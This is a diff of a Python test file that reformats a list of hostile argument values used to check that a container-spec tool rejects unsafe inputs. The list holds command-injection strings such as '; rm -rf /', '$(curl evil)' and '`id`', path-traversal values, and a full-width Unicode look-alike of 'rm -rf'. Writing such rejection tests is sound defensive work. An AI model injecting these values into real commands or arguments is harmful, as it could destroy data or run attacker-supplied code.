@@ -152,7 +152,14 @@ def test_user_model_flag_wins_and_no_cache_mounts_nothing():
     assert all(m["mountPath"] != "/mnt/models" for m in c["volumeMounts"])
 
 
-HOSTILE = ["; rm -rf /", "$(curl evil)", "`id`", "--model=../../etc", "../../x", "\uff52\uff4d \uff0d\uff52\uff46"]
+HOSTILE = [
+    "; rm -rf /",
+    "$(curl evil)",
+    "`id`",
+    "--model=../../etc",
+    "../../x",
+    "\uff52\uff4d \uff0d\uff52\uff46",  # full-width look-alike of "rm -rf"
+]
 
 
 def test_control_characters_in_args_are_rejected_with_a_message_and_nothing_changes():
